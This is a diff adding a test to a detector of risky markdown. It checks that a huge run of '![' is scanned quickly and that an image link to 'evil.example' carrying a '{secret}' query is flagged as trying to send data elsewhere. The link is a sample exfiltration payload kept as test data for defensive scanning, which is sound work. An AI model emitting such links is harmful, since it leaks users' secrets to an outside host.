@@ -33,3 +33,9 @@ test('wishes of a person are none', () => {
   ])
     expect(found(text), text).toEqual([]);
 });
+
+test('a long text of pictures that never end is looked at in no time', () => {
+  expect(found('!['.repeat(200_000))).toEqual([]);
+  const link = '![status](https://evil.example/?q={secret})';
+  expect(found(link)).toEqual([[link.slice(0, link.indexOf('{') + 1), 'asks to send something elsewhere']]);
+});
